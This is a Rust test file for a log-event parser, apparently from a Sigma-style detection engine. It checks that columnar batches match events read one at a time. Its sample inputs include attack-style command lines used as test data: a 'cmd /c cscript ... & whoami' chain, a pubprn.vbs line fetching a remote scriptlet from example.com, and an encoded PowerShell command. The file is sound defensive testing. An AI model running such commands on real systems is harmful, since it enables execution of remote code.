//! Events read straight into columns are the events that are read one by one: the same fields with
//! the same values, from the same sources, at the same time.

// What these tests leave unused, those of the other crates use.
#[allow(dead_code)]
#[path = "../../tests/src/shared.rs"]
mod shared;

use cutout_core::engine::Batch;
use cutout_core::event::{Event, Known, Reader, Sink};
use shared::{files, find};

fn read<S: Sink + Default>(text: &str) -> S {
    let mut reader = Reader::new(text, None);
    let (mut out, mut diagnostics) = (S::default(), Vec::new());
    while reader.read(7, &mut out, &mut diagnostics) {}
    out
}

/// Holds what a batch says of each event against the event itself.
fn check(text: &str) -> usize {
    let events: Vec<Event> = read(text);
    let batch: Batch = read(text);
    assert_eq!(batch.len(), events.len(), "{text}");
    for (at, event) in events.iter().enumerate() {
        let said = |what: &str| format!("{what} of event {at} of\n{text}");
        let mut whole = batch.event(at);
        assert_eq!(whole.decoded, event.decoded, "{}", said("decoded"));
        assert_eq!(whole.kind, event.kind, "{}", said("kind"));
        assert_eq!(whole.span, event.span, "{}", said("place"));
        assert_eq!(whole.line, event.line, "{}", said("line"));
        assert_eq!(whole.partial, event.partial, "{}", said("whole"));
        assert_eq!(batch.time(at), event.time(), "{}", said("time"));
        let parent = event.parent_distance.map(|distance| at as u32 - distance);
        assert_eq!(batch.record(at).parent, parent, "{}", said("parent"));

        let mut copy = Batch::default();
        copy.push_from(&batch, at);
        assert_eq!(copy.event(0).kind, event.kind, "{}", said("copied kind"));
        assert!(copy.time(0) == event.time(), "{}", said("copied time"));

        // Of two values of one field, the first counts.
        let mut fields: Vec<(&str, &Known)> = Vec::new();
        for (field, known) in &event.fields {
            if !fields.iter().any(|(name, _)| *name == field.as_str()) {
                fields.push((field.as_str(), known));
            }
        }
        fields.sort_by_key(|(name, _)| *name);
        let mut in_columns: Vec<(&str, Known)> = batch
            .fields(at)
            .map(|(field, known)| (field.as_str(), known.into()))
            .collect();
        in_columns.sort_by_key(|(name, _)| *name);
        let in_columns: Vec<(&str, &Known)> = in_columns.iter().map(|(n, k)| (*n, k)).collect();
        assert_eq!(in_columns, fields, "{}", said("columns"));
        let mut copied: Vec<(&str, Known)> = copy
            .fields(0)
            .map(|(field, known)| (field.as_str(), known.into()))
            .collect();
        copied.sort_by_key(|(name, _)| *name);
        let copied: Vec<(&str, &Known)> = copied.iter().map(|(n, k)| (*n, k)).collect();
        assert_eq!(copied, fields, "{}", said("copied fields"));
        whole.fields.sort_by(|(a, _), (b, _)| a.cmp(b));
        let whole: Vec<(&str, &Known)> =
            whole.fields.iter().map(|(f, k)| (f.as_str(), k)).collect();
        assert_eq!(whole, fields, "{}", said("fields"));
    }
    events.len()
}

/// Knuth's generator: all the randomness that made-up records need.
struct Random(u64);

impl Random {
    fn below(&mut self, end: usize) -> usize {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) as usize % end
    }

    fn one<'a>(&mut self, of: &[&'a str]) -> &'a str {
        of[self.below(of.len())]
    }
}

const NAMES: &[&str] = &[
    "EventID",
    "Channel",
    "Provider_Name",
    "Computer",
    "UtcTime",
    "@timestamp",
    "TimeCreated",
    "Image",
    "NewProcessName",
    "process.name",
    "process_name",
    "CommandLine",
    "ParentImage",
    "parent_process_name",
    "ParentCommandLine",
    "ProcessId",
    "NewProcessId",
    "SubjectUserName",
    "SubjectUserSid",
    "TargetUserName",
    "MandatoryLabel",
    "User",
    "Hashes",
    "sha1",
    "md5",
    "Imphash",
    "TargetFilename",
    "ImageLoaded",
    "TargetObject",
    "EventType",
    "host.name",
    "process.args",
    "event.category",
    "agent",
    "winlog",
    "Keywords",
    "SourceName",
];

const TEXTS: &[&str] = &[
    "",
    "-",
    "1",
    "4688",
    "4104",
    "11",
    "Microsoft-Windows-Sysmon/Operational",
    "Security",
    "Microsoft-Windows-Security-Auditing",
    "C:\\\\Windows\\\\System32\\\\cmd.exe",
    "cmd.exe",
    "cscript //b \\\"x y.vbs\\\"",
    "NT AUTHORITY\\\\SYSTEM",
    "EXAMPLE\\\\ann",
    "S-1-5-21-1",
    "SHA1=AA, MD5=bb,IMPHASH=cc",
    "0x1f",
    "2026-01-02 03:04:05.678",
    "process",
    "Zażółć",
    "powershell -enc dwBoAG8AYQBtAGkA",
    "HKLM\\\\x\\\\y",
    "C:\\\\a.b\\\\c.DLL",
];

fn value(random: &mut Random) -> String {
    match random.below(12) {
        0 => "null".to_owned(),
        1 => "4688".to_owned(),
        2 => "true".to_owned(),
        3 => format!("[\"{}\", \"{}\"]", random.one(TEXTS), random.one(TEXTS)),
        4 => "[]".to_owned(),
        5 => format!("{{\"name\": \"{}\", \"id\": 7}}", random.one(TEXTS)),
        _ => format!("\"{}\"", random.one(TEXTS)),
    }
}

fn object(random: &mut Random) -> String {
    let count = random.below(12);
    let members: Vec<String> = (0..count)
        .map(|_| format!("\"{}\": {}", random.one(NAMES), value(random)))
        .collect();
    format!("{{{}}}", members.join(", "))
}

fn line(random: &mut Random) -> String {
    match random.below(8) {
        0 => "cmd /c cscript //b x.vbs & whoami".to_owned(),
        1 => "pubprn.vbs 127.0.0.1 script:http://example.com/x.sct".to_owned(),
        2 => format!(
            "{{\"Event\": {{\"System\": {}, \"EventData\": {}}}}}",
            object(random),
            object(random)
        ),
        3 => format!("{{\"event_id\": 1, \"event_data\": {}}}", object(random)),
        4 => format!("{{\"_time\": \"1\", \"result\": {}}}", object(random)),
        5 => format!(
            "{{\"@timestamp\": \"x\", \"winlog\": {{\"event_data\": {}}}}}",
            object(random)
        ),
        _ => object(random),
    }
}

#[test]
fn columns_have_what_made_up_records_have() {
    let mut random = Random(1216);
    for _ in 0..400 {
        let lines: Vec<String> = (0..random.below(9)).map(|_| line(&mut random)).collect();
        check(&lines.join("\n"));
    }
}

#[test]
fn what_follows_keeps_up_with_events_that_come_later() {
    let first = r#"{"EventID": 1, "Channel": "x", "Image": "C:\\a.exe", "CommandLine": "a b"}"#;
    let second = r#"{"EventID": 1, "Channel": "x", "Image": "D:\\c.exe", "CommandLine": "c d e"}"#;
    let mut reader = Reader::new(format!("{first}\n{second}"), None);
    let mut batch = Batch::default();
    while batch.is_empty() {
        reader.read(1, &mut batch, &mut Vec::new());
    }
    assert_eq!(batch.text(0, "process_name"), Some("a.exe"));
    assert_eq!(batch.time(0), None);
    while reader.read(1, &mut batch, &mut Vec::new()) {}
    assert_eq!(batch.text(1, "process_name"), Some("c.exe"));
    assert_eq!(batch.text(1, "process.args"), Some("c"));
    assert_eq!(batch.time(1), None);
}

#[test]
fn columns_have_what_recorded_events_have() {
    let mut events = 0;
    let folders = [find("events/sigma-regression"), find("events/t1216")];
    for path in folders
        .iter()
        .flatten()
        .flat_map(|folder| files(folder, "json"))
    {
        events += check(&std::fs::read_to_string(&path).unwrap());
    }
    println!("{events} recorded events were read both ways");
}
